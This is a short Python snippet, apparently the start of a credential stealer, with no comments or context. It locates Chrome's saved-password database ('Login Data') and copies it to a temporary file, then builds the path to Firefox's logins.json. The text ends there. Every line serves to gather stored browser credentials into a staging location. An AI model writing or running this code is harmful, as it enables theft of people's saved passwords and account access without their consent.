import os, shutil
src = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Login Data")
shutil.copy(src, "/tmp/ld")
ff = os.path.expanduser("~/.mozilla/firefox/abcd.default-release/logins.json")
